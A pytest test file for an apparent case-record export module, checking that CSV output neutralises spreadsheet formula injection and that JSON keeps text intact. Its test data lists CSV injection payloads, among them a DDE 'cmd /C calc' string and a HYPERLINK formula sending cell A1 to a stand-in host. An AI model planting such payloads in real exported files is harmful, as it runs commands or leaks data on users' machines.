from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caselog.case_record import FIELDS as KNOWN
from caselog.case_record import CaseRecord
from caselog.export import COLUMNS, neutral, to_csv, to_json
from caselog.viewing import ShownCase
from tests.caselog.world import CASE, FIELDS, attachment_of, custody, file_of, key


def shown(**fields: str) -> ShownCase:
    record = CaseRecord(CASE, 1, {**FIELDS, **fields}, (attachment_of(file_of("a.png", b"x")),))
    signers = (key("reviewer/ann").verify_key, key("reviewer/ben").verify_key)
    return ShownCase("desk/main", 0, record, tuple(custody()), ("exif.json",), signers)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x")',
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\ufeff=1",
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20a",
        "|x",
        "%x",
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(cell: str) -> None:
    assert neutral(cell)[0] == "'"
    assert neutral(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", ["", "Dam", "-1.5", "-12", "a=b", "2026-11-20", "\u0627\u0644\u0646\u064a\u0644"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert neutral(cell) == cell


@given(st.dictionaries(st.sampled_from(KNOWN), st.text(st.characters(codec="utf-8", exclude_characters="\r\0"))))
def test_csv_has_one_row_a_case_and_no_cell_that_runs(fields: dict[str, str]) -> None:
    data = to_csv([shown(**fields)])
    assert data.startswith(b"\xef\xbb\xbf")
    header, row = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert tuple(header) == COLUMNS
    for name, value in fields.items():
        cell = row[COLUMNS.index(name)]
        assert [one for one in cell if one != "'"] == [one for one in value if one != "'"]
        assert cell[:1] not in {"=", "+", "@", "\t"}


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize(
    "value",
    [
        'a;=HYPERLINK("http://x/?"&A1)',
        "b\t=1+1",
        "c; \t=1",
        'd;"=1',
        'e";"=1',
        "f;'=1",
        "g\n=1",
        "h\r\n@SUM(A1)",
        "i;;+1",
        "j;\uff1d1",
        "k;-1+1",
        ";=1",
        "l;\n\t;=1",
    ],
)
def test_no_cell_runs_where_a_spreadsheet_parts_at_another_sign(value: str, separator: str) -> None:
    data = to_csv([shown(title=value, note=value)]).decode("utf-8-sig")
    for row in csv.reader(io.StringIO(data, newline=""), delimiter=separator):
        for cell in row:
            assert cell.lstrip('"\ufeff \t\r\n')[:1] not in {*"=+-@|%\uff1d"}


def test_lists_within_a_cell_keep_their_looks() -> None:
    assert neutral("authority; leads; a-b") == "authority; leads; a-b"


def test_csv_says_what_belongs_to_a_case() -> None:
    _, row = csv.reader(io.StringIO(to_csv([shown()]).decode("utf-8-sig"), newline=""))
    cells = dict(zip(COLUMNS, row, strict=True))
    assert cells["case"] == CASE
    assert cells["attachments"] == "a.png"
    assert cells["signers"] == "reviewer/ann; reviewer/ben"
    assert (cells["desk"], cells["leaf"], cells["revision"]) == ("desk/main", "0", "1")


def test_json_keeps_every_character() -> None:
    value = json.loads(to_json([shown(note="=1+1\u202e")]))
    assert value["version"] == 1
    assert value["cases"][0]["fields"]["note"] == "=1+1\u202e"
    assert value["cases"][0]["attachments"][0]["name"] == "a.png"
    assert value["cases"][0]["reports"] == ["exif.json"]
